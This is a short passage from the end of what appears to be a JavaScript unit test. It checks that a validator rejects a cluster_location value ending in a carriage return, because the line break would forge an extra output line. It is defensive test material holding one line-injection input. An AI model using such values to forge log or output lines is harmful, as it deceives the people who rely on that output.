      'cluster_location: "europe-west1-b\\r" (gke.location, else gcp.zone) contains a line break; allowed: a value on one line (a line break would start another, forged output line)',
    ]);
  });
});
